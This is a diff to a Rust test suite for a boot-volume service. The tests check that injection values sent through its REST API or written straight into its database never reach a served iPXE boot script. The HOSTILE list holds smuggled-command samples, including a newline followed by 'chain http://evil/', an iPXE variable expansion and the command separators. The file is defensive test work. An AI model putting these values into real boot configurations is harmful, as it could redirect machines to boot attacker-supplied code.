@@ -1,5 +1,8 @@
 //! Hostile values: no value may add a line, an argument or a `${...}` expansion to a script.
-//! They are refused at the edge (inventory files) and again by the renderer.
+//! They are refused at the edge (inventory files; the REST API through a real `serve`: every
+//! writable field that reaches a script, created and changed, 400 naming the field, nothing
+//! stored; the admin forms in `admin.rs`) and again by the renderer (records built by hand, and
+//! values written into the database with SQL, which the real boot listener never serves).
 
 use serde_json::{Value, json};
 
@@ -10,7 +13,7 @@ use crate::support::{config, render_record};
 
 /// The last three are iPXE's command separators (`src/core/exec.c` splits a line at these whole
 /// tokens): as a value each would start another command.
-const HOSTILE: &[&str] = &[
+pub(crate) const HOSTILE: &[&str] = &[
     "x\nchain http://evil/",
     "${net0/ip}",
     "ok extra-argument",
@@ -22,7 +25,7 @@ const HOSTILE: &[&str] = &[
     ";",
 ];
 
-fn base_nodes() -> Value {
+pub(crate) fn base_nodes() -> Value {
     json!({"nodes": [
         {"name": "iscsi", "storage_interface": "external", "properties": {"capabilities": "iscsi_boot:true"},
          "ports": [{"address": "52:54:00:aa:00:01"}],
@@ -56,7 +59,7 @@ fn base_nodes() -> Value {
 }
 
 /// Every field whose value reaches a script, as a JSON pointer into [`base_nodes`].
-const SCRIPT_FIELDS: &[&str] = &[
+pub(crate) const SCRIPT_FIELDS: &[&str] = &[
     "/nodes/0/name",
     "/nodes/0/volume_connectors/0/connector_id",
     "/nodes/0/volume_targets/0/volume_id",
@@ -176,5 +179,415 @@ fn the_renderer_refuses_hostile_values_that_bypassed_the_edge() {
         assert!(!script.text.contains("sanboot"));
         // The problem names the value; it is shown to the operator, never served to nodes.
         assert!(script.text.lines().any(|l| l == "exit"));
+    }
+}
+
+/// The last segment of a JSON pointer that is a name (`target_portals/1` → `target_portals`).
+pub(crate) fn field_name(pointer: &str) -> &str {
+    pointer.rsplit('/').find(|s| s.parse::<usize>().is_err()).unwrap()
+}
+
+/// The hostile values for a field: `kernel_append_params` is split on spaces (its words are
+/// arguments by design), so a space alone is not hostile there.
+pub(crate) fn hostile_for(pointer: &str) -> impl Iterator<Item = &'static &'static str> {
+    let words = pointer.ends_with("kernel_append_params");
+    HOSTILE.iter().filter(move |h| !(words && **h == "ok extra-argument"))
+}
+
+/// One `serve` (noauth) and a real HTTP client: (status, JSON answer).
+struct ApiClient {
+    base: String,
+    boot: String,
+    shutdown: tokio_util::sync::CancellationToken,
+    dir: tempfile::TempDir,
+}
+
+impl Drop for ApiClient {
+    fn drop(&mut self) {
+        self.shutdown.cancel();
+    }
+}
+
+impl ApiClient {
+    fn start() -> ApiClient {
+        let dir = tempfile::tempdir().unwrap();
+        let text = format!(
+            "{}[api]\nauth_strategy = \"noauth\"\n",
+            // SQL written by the test reaches the boot path within 50 ms.
+            crate::support::config_text(dir.path())
+                .replace("[database]\n", "[database]\nwatch_interval_ms = 50\n")
+        );
+        let config = bootvol::config::Config::from_toml(&text, "test").unwrap();
+        let (api, boot, shutdown) = crate::support::start_serve(config);
+        let client = ApiClient {
+            base: format!("http://{api}"),
+            boot: format!("http://{boot}"),
+            shutdown,
+            dir,
+        };
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+        while client.call("GET", "/v1/nodes", None).0 != 200 {
+            assert!(std::time::Instant::now() < deadline, "API never answered");
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+        client
+    }
+
+    fn call(&self, method: &str, path: &str, body: Option<&Value>) -> (u16, Value) {
+        let agent: ureq::Agent =
+            ureq::Agent::config_builder().http_status_as_error(false).build().into();
+        let request = ureq::http::Request::builder()
+            .method(method)
+            .uri(format!("{}{path}", self.base))
+            .header("X-OpenStack-Ironic-API-Version", "1.38")
+            .header("Content-Type", "application/json")
+            .body(body.map_or_else(String::new, Value::to_string))
+            .unwrap();
+        let mut response = agent.run(request).expect("HTTP exchange");
+        let status = response.status().as_u16();
+        let text = response.body_mut().read_to_string().unwrap_or_default();
+        (status, serde_json::from_str(&text).unwrap_or(Value::Null))
+    }
+}
+
+/// The faultstring of an Ironic error body.
+fn fault(body: &Value) -> String {
+    body["error_message"]
+        .as_str()
+        .and_then(|m| serde_json::from_str::<Value>(m).ok())
+        .and_then(|m| m["faultstring"].as_str().map(str::to_owned))
+        .unwrap_or_else(|| body.to_string())
+}
+
+/// Every writable API field whose value reaches a script, created (POST) and changed (PATCH),
+/// with every hostile value: a 400 naming the field, and nothing stored.
+#[test]
+fn every_writable_api_field_refuses_every_hostile_value_and_stores_nothing() {
+    let api = ApiClient::start();
+    let base = base_nodes();
+    let nfsroot = &base["nodes"][5];
+    let (status, host) = api.call(
+        "POST",
+        "/v1/nodes",
+        Some(&json!({"name": "host", "driver": "fake", "storage_interface": "external",
+            "properties": {"capabilities": "iscsi_boot:true"},
+            "instance_info": nfsroot["instance_info"]})),
+    );
+    assert_eq!(status, 201, "{host}");
+    let uuid = host["uuid"].as_str().unwrap().to_owned();
+    let iscsi = &base["nodes"][0];
+    let target = |node: usize| {
+        let mut t = base["nodes"][node]["volume_targets"][0].clone();
+        t["node_uuid"] = json!(uuid);
+        t
+    };
+    let (status, made) = api.call("POST", "/v1/volume/targets", Some(&target(0)));
+    assert_eq!(status, 201, "{made}");
+    let target_uuid = made["uuid"].as_str().unwrap().to_owned();
+    let mut connector = iscsi["volume_connectors"][0].clone();
+    connector["node_uuid"] = json!(uuid);
+    let (status, made) = api.call("POST", "/v1/volume/connectors", Some(&connector));
+    assert_eq!(status, 201, "{made}");
+    let connector_uuid = made["uuid"].as_str().unwrap().to_owned();
+    let before = (
+        api.call("GET", &format!("/v1/nodes/{uuid}"), None).1,
+        api.call("GET", &format!("/v1/volume/targets/{target_uuid}"), None).1,
+        api.call("GET", &format!("/v1/volume/connectors/{connector_uuid}"), None).1,
+    );
+
+    // (what, collection to POST to, the valid body, the pointers made hostile in it).
+    let node_body = json!({"name": "made", "driver": "fake", "storage_interface": "external",
+        "properties": {"capabilities": "nfs_boot:true"}, "instance_info": nfsroot["instance_info"]});
+    let creates: Vec<(&str, Value, Vec<&str>)> = vec![
+        (
+            "/v1/nodes",
+            node_body,
+            vec![
+                "/name",
+                "/instance_info/kernel",
+                "/instance_info/ramdisk",
+                "/instance_info/nfs_root",
+                "/instance_info/nfs_options",
+                "/instance_info/kernel_append_params",
+            ],
+        ),
+        ("/v1/ports", json!({"node_uuid": uuid, "address": "52:54:00:ee:00:01"}), vec!["/address"]),
+        (
+            "/v1/volume/connectors",
+            {
+                let mut c = connector.clone();
+                c["connector_id"] = json!("iqn.2024-01.org.example.node:other");
+                c
+            },
+            vec!["/connector_id"],
+        ),
+        (
+            "/v1/volume/targets",
+            {
+                let mut t = target(0);
+                t["boot_index"] = json!(1);
+                t["volume_id"] = json!("v9");
+                t
+            },
+            SCRIPT_FIELDS
+                .iter()
+                .filter_map(|f| f.strip_prefix("/nodes/0/volume_targets/0"))
+                .collect(),
+        ),
+    ];
+    let mut other_targets: Vec<(&str, Value, Vec<&str>)> = Vec::new();
+    for node in 1..=4 {
+        let mut t = target(node);
+        t["boot_index"] = json!(1);
+        let prefix = format!("/nodes/{node}/volume_targets/0");
+        let fields: Vec<&str> =
+            SCRIPT_FIELDS.iter().filter_map(|f| f.strip_prefix(prefix.as_str())).collect();
+        other_targets.push(("/v1/volume/targets", t, fields));
+    }
+    let mut tried = 0;
+    for (collection, valid, pointers) in creates.iter().chain(&other_targets) {
+        for pointer in pointers {
+            for hostile in hostile_for(pointer) {
+                let mut body = valid.clone();
+                *body.pointer_mut(pointer).unwrap_or_else(|| panic!("{collection} {pointer}")) =
+                    json!(hostile);
+                let (status, reply) = api.call("POST", collection, Some(&body));
+                let what = format!("POST {collection} {pointer}={hostile:?}");
+                assert_eq!(status, 400, "{what}: {reply}");
+                let text = fault(&reply);
+                assert!(text.contains(field_name(pointer)), "{what}: {text}");
+                tried += 1;
+            }
+        }
+    }
+    // Changes: the node's fields, the connector's id and every property of the target.
+    let mut patches: Vec<(String, String)> = vec![
+        (format!("/v1/nodes/{uuid}"), "/name".into()),
+        (format!("/v1/volume/connectors/{connector_uuid}"), "/connector_id".into()),
+        (format!("/v1/volume/targets/{target_uuid}"), "/volume_id".into()),
+    ];
+    for field in ["kernel", "ramdisk", "nfs_root", "nfs_options", "kernel_append_params"] {
+        patches.push((format!("/v1/nodes/{uuid}"), format!("/instance_info/{field}")));
+    }
+    for field in SCRIPT_FIELDS.iter().filter_map(|f| f.strip_prefix("/nodes/0/volume_targets/0")) {
+        if field.starts_with("/properties/") {
+            patches.push((format!("/v1/volume/targets/{target_uuid}"), field.to_owned()));
+        }
+    }
+    for (path, pointer) in &patches {
+        for hostile in hostile_for(pointer) {
+            let body = json!([{"op": "add", "path": pointer, "value": hostile}]);
+            let (status, reply) = api.call("PATCH", path, Some(&body));
+            let what = format!("PATCH {path} {pointer}={hostile:?}");
+            assert_eq!(status, 400, "{what}: {reply}");
+            assert!(fault(&reply).contains(field_name(pointer)), "{what}: {}", fault(&reply));
+            tried += 1;
+        }
+    }
+    let after = (
+        api.call("GET", &format!("/v1/nodes/{uuid}"), None).1,
+        api.call("GET", &format!("/v1/volume/targets/{target_uuid}"), None).1,
+        api.call("GET", &format!("/v1/volume/connectors/{connector_uuid}"), None).1,
+    );
+    assert_eq!(before, after, "nothing changed");
+    assert_eq!(api.call("GET", "/v1/nodes", None).1["nodes"].as_array().unwrap().len(), 1);
+    assert_eq!(api.call("GET", "/v1/ports", None).1["ports"].as_array().unwrap().len(), 0);
+    assert_eq!(
+        api.call("GET", "/v1/volume/targets", None).1["targets"].as_array().unwrap().len(),
+        1
+    );
+    assert!(tried > 300, "{tried}");
+    let _ = (&api.boot, api.dir.path());
+}
+
+/// iPXE's command separators, the last three of [`HOSTILE`].
+const SEPARATORS: &[&str] = &["&&", "||", ";"];
+
+/// Where a field of [`SCRIPT_FIELDS`] lives in SQLite: (table, column, JSON path in it or none).
+fn sql_place(field: &str) -> (&'static str, &'static str, Option<String>) {
+    let rest: Vec<&str> = field.split('/').skip(3).collect();
+    let json_path = |parts: &[&str]| {
+        let mut path = "$".to_owned();
+        for p in parts {
+            match p.parse::<usize>() {
+                Ok(i) => path.push_str(&format!("[{i}]")),
+                Err(_) => path.push_str(&format!(".{p}")),
+            }
+        }
+        path
+    };
+    match rest.as_slice() {
+        ["name"] => ("nodes", "name", None),
+        ["instance_info", tail @ ..] => ("nodes", "instance_info", Some(json_path(tail))),
+        ["volume_connectors", _, "connector_id"] => ("volume_connectors", "connector_id", None),
+        ["volume_targets", _, "volume_id"] => ("volume_targets", "volume_id", None),
+        ["volume_targets", _, "properties", tail @ ..] => {
+            ("volume_targets", "properties", Some(json_path(tail)))
+        }
+        _ => panic!("no SQL place for {field}"),
+    }
+}
+
+/// Hostile values written straight into the database (SQL, as if the edge had been bypassed),
+/// into every field of [`SCRIPT_FIELDS`] at once (one node per field): the real boot listener
+/// never serves one; each node gets the default script, as an unknown MAC does, until the value
+/// is put back.
+#[test]
+fn hostile_values_written_into_the_database_never_reach_a_served_script() {
+    if crate::support::on_postgres() {
+        eprintln!("skipped on PostgreSQL: the values are written with SQLite's SQL");
+        return;
+    }
+    let api = ApiClient::start();
+    let base = base_nodes();
+    // One node per field: a copy of the field's node with names, MACs and IDs of its own.
+    let (mut nodes, mut originals) = (Vec::new(), Vec::new());
+    for (i, field) in SCRIPT_FIELDS.iter().enumerate() {
+        let index: usize = field.split('/').nth(2).unwrap().parse().unwrap();
+        let text = base["nodes"][index]
+            .to_string()
+            .replace("org.example.node:a", &format!("org.example.node:f{i}"))
+            .replace("20000025b500000a", &format!("2000002500{i:06x}"));
+        let mut node: Value = serde_json::from_str(&text).unwrap();
+        node["name"] = json!(format!("f{i}"));
+        let mac = format!("52:54:00:cc:01:{i:02x}");
+        node["ports"] = json!([{"address": mac}]);
+        node["driver"] = json!("fake");
+        if ["target_iqn", "target_portal", "target_lun"]
+            .iter()
+            .any(|f| field.starts_with("/nodes/0/") && field.ends_with(&format!("/{f}")))
+        {
+            // With the multipath lists the single values are not rendered: drop the lists.
+            let properties = node["volume_targets"][0]["properties"].as_object_mut().unwrap();
+            for list in ["target_iqns", "target_portals", "target_luns"] {
+                properties.remove(list);
+            }
+        }
+        let in_node = field.splitn(4, '/').nth(3).unwrap();
+        let original = node.pointer(&format!("/{in_node}")).unwrap().clone();
+        let children = ["ports", "volume_connectors", "volume_targets"]
+            .map(|k| node.as_object_mut().unwrap().remove(k).unwrap_or(json!([])));
+        let (status, made) = api.call("POST", "/v1/nodes", Some(&node));
+        assert_eq!(status, 201, "{field}: {made}");
+        let uuid = made["uuid"].as_str().unwrap().to_owned();
+        for (collection, items) in
+            ["/v1/ports", "/v1/volume/connectors", "/v1/volume/targets"].iter().zip(&children)
+        {
+            for item in items.as_array().unwrap() {
+                let mut item = item.clone();
+                item["node_uuid"] = json!(uuid);
+                let (status, made) = api.call("POST", collection, Some(&item));
+                assert_eq!(status, 201, "{field} {collection}: {made}");
+            }
+        }
+        nodes.push((*field, uuid, mac));
+        originals.push(original);
+    }
+    let agent: ureq::Agent =
+        ureq::Agent::config_builder().http_status_as_error(false).build().into();
+    let script = |mac: &str| -> (u16, String) {
+        let mut reply = agent.get(format!("{}/boot/{mac}.ipxe", api.boot)).call().unwrap();
+        (reply.status().as_u16(), reply.body_mut().read_to_string().unwrap())
+    };
+    let db = rusqlite::Connection::open(api.dir.path().join("bootvol.db")).unwrap();
+    db.busy_timeout(std::time::Duration::from_secs(5)).unwrap();
+    // Deployed (a node that is not gets the "not deployed" script whatever its values).
+    db.execute("UPDATE nodes SET provision_state = 'active'", []).unwrap();
+    // The writes reach the boot snapshot shortly after.
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    let good: Vec<(u16, String)> = loop {
+        let served: Vec<(u16, String)> = nodes.iter().map(|(_, _, mac)| script(mac)).collect();
+        if served.iter().all(|(status, text)| *status == 200 && !text.contains("not-deployed")) {
+            break served;
+        }
+        assert!(std::time::Instant::now() < deadline, "the nodes never got their scripts");
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    };
+    for ((field, _, _), (_, text)) in nodes.iter().zip(&good) {
+        assert!(!text.contains("unknown machine"), "{field}: {text}");
+    }
+    let write = |value: &Value| {
+        let tx = db.unchecked_transaction().unwrap();
+        for (field, uuid, _) in &nodes {
+            let (table, column, path) = sql_place(field);
+            let owner = if table == "nodes" {
+                "uuid = ?1"
+            } else {
+                "node_id = (SELECT id FROM nodes WHERE uuid = ?1)"
+            };
+            let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
+            let sql = match &path {
+                Some(path) => format!(
+                    "UPDATE {table} SET {column} = json_set({column}, '{path}', json(?2)) WHERE {owner}"
+                ),
+                None => format!("UPDATE {table} SET {column} = ?2 WHERE {owner}"),
+            };
+            let arg = if path.is_some() { value.to_string() } else { text };
+            assert_eq!(tx.execute(&sql, rusqlite::params![uuid, arg]).unwrap(), 1, "{field}");
+        }
+        tx.commit().unwrap();
+    };
+    let wait_for = |want: &dyn Fn(usize, &(u16, String)) -> bool, what: &str| {
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+        loop {
+            let served: Vec<(u16, String)> = nodes.iter().map(|(_, _, mac)| script(mac)).collect();
+            let pending: Vec<&str> = served
+                .iter()
+                .enumerate()
+                .filter(|(i, s)| !want(*i, s))
+                .map(|(i, _)| nodes[i].0)
+                .collect();
+            if pending.is_empty() {
+                return served;
+            }
+            assert!(std::time::Instant::now() < deadline, "{what}: still {pending:?}");
+            std::thread::sleep(std::time::Duration::from_millis(100));
+        }
+    };
+    for hostile in HOSTILE {
+        write(&json!(hostile));
+        // Every node's script changes (a separator may stay inside a word, the NFS options').
+        let served = wait_for(&|i, s| s != &good[i], &format!("{hostile:?} written"));
+        for (i, ((field, _, _), (status, text))) in nodes.iter().zip(&served).enumerate() {
+            let what = format!("{field}={hostile:?}: {status}\n{text}");
+            if SEPARATORS.contains(hostile) {
+                // Inside a word (`nfsroot=server:/path,&&`) a separator is a character like
+                // any other: iPXE splits only at whole words. As a word of its own, never.
+                let words = |t: &str| t.split_whitespace().filter(|w| w == hostile).count();
+                assert!(
+                    words(text) <= words(&good[i].1),
+                    "{what}: a separator reached the script as a word (the script's own aside)"
+                );
+                continue;
+            }
+            assert!(!text.contains(hostile), "{what}: the value reached the script");
+            for boots in ["sanboot", "sanhook", "chain", "kernel ", "initrd ", "username"] {
+                assert!(!text.contains(boots), "{what}: not the default script");
+            }
+            assert!(text.lines().any(|l| l == "exit"), "{what}: the default script ends in exit");
+        }
+        // Put back, one value per node, and each node boots its volume again.
+        for ((field, uuid, _), original) in nodes.iter().zip(&originals) {
+            let (table, column, path) = sql_place(field);
+            let owner = if table == "nodes" {
+                "uuid = ?1"
+            } else {
+                "node_id = (SELECT id FROM nodes WHERE uuid = ?1)"
+            };
+            let (sql, arg) = match &path {
+                Some(path) => (
+                    format!(
+                        "UPDATE {table} SET {column} = json_set({column}, '{path}', json(?2)) WHERE {owner}"
+                    ),
+                    original.to_string(),
+                ),
+                None => (
+                    format!("UPDATE {table} SET {column} = ?2 WHERE {owner}"),
+                    original.as_str().unwrap().to_owned(),
+                ),
+            };
+            db.execute(&sql, rusqlite::params![uuid, arg]).unwrap();
+        }
+        wait_for(&|i, s| s == &good[i], &format!("{hostile:?} put back"));
     }
 }
